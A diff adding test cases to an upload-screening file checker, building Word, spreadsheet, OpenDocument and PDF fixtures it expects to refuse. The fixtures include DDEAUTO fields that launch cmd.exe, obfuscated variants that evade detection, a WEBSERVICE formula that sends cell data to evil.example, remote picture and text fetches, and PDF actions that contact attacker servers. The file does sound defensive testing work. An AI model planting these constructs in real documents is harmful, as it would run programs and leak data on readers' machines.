@@ -35,6 +35,12 @@ const pdfWith = (key: string, value: object) => () =>
 const openDocument = { mimetype: 'application/vnd.oasis.opendocument.text' };
 const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') };
 
+const odt = (content: string) => () => zipOf({ ...openDocument, 'content.xml': `<x>${content}</x>` });
+const field = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
+const code = (words: string) => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`;
+const fieldXml = (inside: string) => `<w:p>${inside}</w:p>`;
+const fieldIn = (inside: string) => word({ 'word/comments.xml': fieldXml(inside) });
+
 const refused: [string, FileRefusal, Make][] = [
   ['nothing', 'empty', text('')],
   ['a program', 'program', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 1)])],
@@ -199,6 +205,103 @@ const refused: [string, FileRefusal, Make][] = [
     'a picture that an OpenDocument fetches',
     'remoteContent',
     () => zipOf({ ...openDocument, 'content.xml': '<x><d:image x:href="https://evil.example/a.png"/></x>' }),
+  ],
+  ['a field that starts a program', 'liveLink', fieldIn(code('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))],
+  ['a field that asks a program, in one tag', 'liveLink', fieldIn('<w:fldSimple w:instr=" DDE Excel a b"/>')],
+  [
+    'such a field in pieces, in numbers, and with a remark between',
+    'liveLink',
+    fieldIn(
+      field('begin') + code('D') + code('&#68;<!-- > -->') + code('<![CDATA[EAUTO]]> cmd') + field('end'),
+    ),
+  ],
+  [
+    'a field whose name another field counts out',
+    'liveLink',
+    fieldIn(
+      field('begin') +
+        field('begin') +
+        code('QUOTE 68 68 69') +
+        field('separate') +
+        field('end') +
+        code(' cmd'),
+    ),
+  ],
+  ['such a field in the foot of a page', 'liveLink', word({ 'word/footer1.xml': fieldXml(code('dde a b')) })],
+  [
+    'such a field in a part that is called a picture, in wide letters',
+    'liveLink',
+    word({ 'word/media/a.png': Buffer.from(fieldXml(code('DDEAUTO a b')), 'utf16le') }),
+  ],
+  [
+    'a sheet that asks a program',
+    'liveLink',
+    word({ 'xl/externalLinks/externalLink1.xml': '<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>' }),
+  ],
+  ['an OpenDocument that asks a program', 'liveLink', odt('<o:dde-source o:dde-application="soffice"/>')],
+  [
+    'a formula that asks a program',
+    'liveLink',
+    odt('<t:cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'),
+  ],
+  [
+    'a field that fetches a picture',
+    'remoteContent',
+    fieldIn(field('begin') + code('INCLUDEPICTURE "https://evil.example/a.png" \\d') + field('end')),
+  ],
+  [
+    'a field that fetches a text of a server',
+    'remoteContent',
+    fieldIn(code('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')),
+  ],
+  [
+    'a page of the web as a part of a document',
+    'embeddedFile',
+    word({ 'word/_rels/document.xml.rels': '<Relationship Type="http://x/aFChunk" Target="a.dat"/>' }),
+  ],
+  [
+    'a formula that fetches',
+    'remoteContent',
+    word({ 'xl/worksheets/sheet1.xml': '<c><f>_xlfn.WEBSERVICE("https://evil.example?a="&amp;A1)</f></c>' }),
+  ],
+  [
+    'a sheet that is connected to a page of the web',
+    'remoteContent',
+    word({
+      'xl/connections.xml': '<connection refreshOnLoad="1"><webPr url="https://evil.example"/></connection>',
+    }),
+  ],
+  [
+    'a picture that is fetched, its address behind a sign that ends no tag',
+    'remoteContent',
+    word({
+      'word/_rels/document.xml.rels': relation('image', 'https://evil.example/a.png').replace('"r"', '"r>"'),
+    }),
+  ],
+  [
+    'a picture of a server, written without its protocol',
+    'remoteContent',
+    odt('<d:image x:href="//evil/a.png"/>'),
+  ],
+  [
+    'words that mean something else than they say',
+    'hiddenContent',
+    word({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "DDEAUTO">]><a>&b;</a>' }),
+  ],
+  [
+    'a part that is made to take long to read',
+    'unpacksTooLarge',
+    word({ 'word/a.xml': Buffer.concat([Buffer.from('<a '), Buffer.alloc(60_000_001, 'a')]) }),
+  ],
+  [
+    'a PDF that opens a page of the web by itself',
+    'pdfLaunch',
+    pdfWith('OpenAction', { S: 'GoTo', Next: [{ S: 'URI', URI: PDFString.of('https://evil.example') }] }),
+  ],
+  [
+    'a PDF that asks a server who reads it',
+    'pdfLaunch',
+    pdfWith('AA', { WC: { S: 'GoToR', F: PDFString.of('\\\\evil\\a'), D: [0, 'Fit'] } }),
   ],
   [
     'a zip bomb in a document',
@@ -388,6 +491,25 @@ suite('a good file goes through', () => {
       'word/_rels/footer1.xml.rels': relation('image', 'file:///C:\\Bilder\\logo.png'),
     });
     expect((await checkFile(bytes)).bytes).toBe(bytes);
+    const fields = [
+      'IF ',
+      'PAGE',
+      'HYPERLINK "https://lovdata.no"',
+      'INCLUDEPICTURE "C:\\\\a.png" \\d',
+      'DDEX',
+    ];
+    const honest = fields
+      .map((words) => field('begin') + code(words) + field('separate') + field('end'))
+      .join('');
+    const counted =
+      field('begin') + code('IF ') + field('begin') + code('PAGE') + field('end') + field('end');
+    const said = '<w:t>DDEAUTO, IMAGE(a) og https://lovdata.no</w:t>';
+    await checkFile(await fieldIn(honest + counted + said)());
+    const formulas = '<f>SUM(A1)</f><f>HYPERLINK("https://lovdata.no","WEBSERVICE(")</f>';
+    const model = '<connection><dbPr connection="Data Model Connection" command="M"/></connection>';
+    await checkFile(
+      await zipOf({ ...sheet, 'xl/worksheets/sheet1.xml': formulas, 'xl/connections.xml': model }),
+    );
     expect((await checkFile(await zipOf(sheet))).type).toContain('spreadsheetml.sheet');
     const links =
       '<text:a xlink:href="https://lovdata.no">§</text:a><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>';
